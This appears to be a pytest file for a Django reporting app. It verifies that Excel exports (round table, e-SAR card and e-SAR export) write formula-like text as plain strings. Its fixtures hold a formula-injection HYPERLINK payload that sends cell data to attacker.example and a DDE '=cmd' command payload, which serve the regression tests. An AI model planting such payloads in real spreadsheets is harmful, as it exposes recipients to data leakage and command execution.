"""Issue 9 item 6: text that Excel would read as a formula is written as text in every export
(the round table, the e-SAR card and the e-SAR export), checked by reading the saved .xlsx back."""
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from reporting.scores import score_report

HOSTILE_TITLE = '=HYPERLINK("http://attacker.example/?x="&A1,"คลิกเพื่อดูหลักฐาน")'
HOSTILE_NAME = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile(demo):
    report = demo.report("กค.")
    kpi = report.lines_in_order()[0].kpi
    kpi.title = HOSTILE_TITLE
    revision = kpi.save_revision()
    revision.publish()
    # a closed round shows the KPI as pinned for the report: pin the hostile revision
    report.lines.filter(kpi=kpi).update(kpi_revision=revision)
    org = report.organisation
    org.name_th = HOSTILE_NAME
    org.save()
    for abbr in ("กค.", "สบป."):
        score_report(demo.report(abbr))
    return demo


def _cells(content):
    book = load_workbook(io.BytesIO(content))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def _assert_text(cells, *texts):
    for text in texts:
        found = [c for c in cells if isinstance(c.value, str) and text in c.value]
        assert found, text
        assert all(c.data_type == "s" for c in found), [(c.coordinate, c.data_type) for c in found]
    assert not [c for c in cells if c.data_type == "f"]


def test_card_excel_writes_formula_title_as_text(hostile, client):
    report = hostile.report("กค.")
    client.force_login(hostile.user("staff_finance"))
    cells = _cells(client.get(reverse("reporting_card_excel", args=[report.pk])).content)
    title = [c for c in cells if c.value == HOSTILE_TITLE]
    assert len(title) == 1 and title[0].data_type == "s" and title[0].quotePrefix
    _assert_text(cells, HOSTILE_TITLE, HOSTILE_NAME)


def test_esar_export_writes_formula_text_as_text(hostile, client):
    report = hostile.report("กค.")
    client.force_login(hostile.user("staff_finance"))
    response = client.get(f"/admin/scores/report/{report.pk}/esar.xlsx")
    assert response.status_code == 200
    cells = _cells(response.content)
    assert [c.value for c in cells if c.value in (HOSTILE_TITLE, HOSTILE_NAME)] == [HOSTILE_NAME, HOSTILE_TITLE]
    _assert_text(cells, HOSTILE_TITLE, HOSTILE_NAME)


def test_round_excel_writes_formula_name_as_text(hostile, client):
    client.force_login(hostile.user("executive"))
    cells = _cells(client.get(reverse("reporting_round_excel", args=[hostile.round(6).pk])).content)
    assert [c.value for c in cells if c.value == HOSTILE_NAME] == [HOSTILE_NAME]
    _assert_text(cells, HOSTILE_NAME)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_append_row_keeps_every_formula_start_as_text(text):
    from openpyxl import Workbook

    from reporting.spreadsheet import append_row

    wb = Workbook()
    append_row(wb.active, [text, "ข้อความ", 3])
    buffer = io.BytesIO()
    wb.save(buffer)
    a, b, c = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    # text, and marked with Excel's quote prefix so editing the cell does not turn it into a formula
    assert (a.value, a.data_type, a.quotePrefix) == (text, "s", True)
    assert b.value == "ข้อความ" and not b.quotePrefix and c.value == 3
